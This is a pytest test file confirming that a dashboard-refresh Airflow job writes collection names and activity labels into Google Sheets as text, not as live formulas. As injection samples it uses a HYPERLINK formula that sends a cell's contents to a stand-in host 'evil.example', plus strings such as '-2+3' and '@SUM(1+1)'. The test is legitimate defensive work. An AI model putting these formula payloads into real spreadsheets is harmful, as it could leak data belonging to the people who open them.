"""Issue 21, formula injection: text from outside (a collection name ops typed, activity labels
from the app) reaches each collector's sheet as text, never as a live formula, while our own
Accepted? formula stays one. Through the DAG and the Google emulator, read back with
``valueRenderOption=FORMULA`` and ``FORMATTED_VALUE``."""

from __future__ import annotations

import re
from datetime import timedelta
from itertools import zip_longest
from pathlib import Path

import pytest
from scoring_world import T0, World

from collector.scoring.scores import score_videos

DAGS = Path(__file__).resolve().parents[2] / "dags"
EVIL_NAME = '=HYPERLINK("https://evil.example/?leak="&A2,"Open your payment")'
EVIL_LABEL = "-2+3"
OUR_FORMULA = re.compile(r'^=IF\(\d+(\.\d+)?>=\d+(\.\d+)?,"YES","NO"\)$')


@pytest.fixture
def poisoned(warehouse, sheets_connection, monkeypatch):
    from collector_airflow.hooks import sheets

    monkeypatch.setattr(sheets, "_sleep", lambda _: None)
    world = World(warehouse, name=EVIL_NAME)
    world.video(collector="alice@example.com", shortnames=(EVIL_LABEL, "@SUM(1+1)"))
    world.video(collector="alice@example.com", at=T0 + timedelta(days=1))  # accepted
    score_videos(warehouse)
    return world


@pytest.mark.airflow
def test_collection_names_and_labels_are_text_and_accepted_stays_our_formula(
    airflow_db, poisoned, warehouse
):
    from airflow.dag_processing.dagbag import DagBag

    from collector_airflow.hooks.sheets import GoogleSheetsHook

    dag = DagBag(dag_folder=str(DAGS / "dashboard_refresh.py")).get_dag("dashboard_refresh")
    assert str(dag.test(run_conf={"chunk_size": 1}).state) == "success"
    with warehouse.cursor() as cur:
        cur.execute(
            "SELECT spreadsheet_id FROM collector_dashboards WHERE collector_id = %s",
            ("alice@example.com",),
        )
        [sheet_id] = cur.fetchone()
    warehouse.commit()
    book = GoogleSheetsHook().open(sheet_id)
    # A text cell reads the same as written (FORMULA) and as shown (FORMATTED_VALUE); a live
    # formula shows what it computes. Sheets never returns the neutralizing apostrophe.
    cells = []
    for tab in ("Videos", "Payments", "Summary"):
        written = book.values_get(f"'{tab}'", params={"valueRenderOption": "FORMULA"})
        shown_tab = book.values_get(f"'{tab}'", params={"valueRenderOption": "FORMATTED_VALUE"})
        rows = zip_longest(written.get("values", []), shown_tab.get("values", []), fillvalue=[])
        for row, shown_row in rows:  # trailing empty cells are left out of either
            cells += [(c, s) for c, s in zip_longest(row, shown_row, fillvalue="")]
    cells = [(c, s) for c, s in cells if isinstance(c, str)]  # numbers are numbers
    live = [c for c, s in cells if c != s]
    assert live and all(OUR_FORMULA.match(c) for c in live), live  # only Accepted?
    assert any(c.startswith("=HYPERLINK") for c, _ in cells)  # the name is there, as text
    assert any(c.startswith("-2+3") for c, _ in cells)  # the label too
    shown = book.values_get("'Videos'!A2:I3").get("values", [])
    assert "#NAME?" not in str(shown) and {row[6] for row in shown} == {"YES", "NO"}
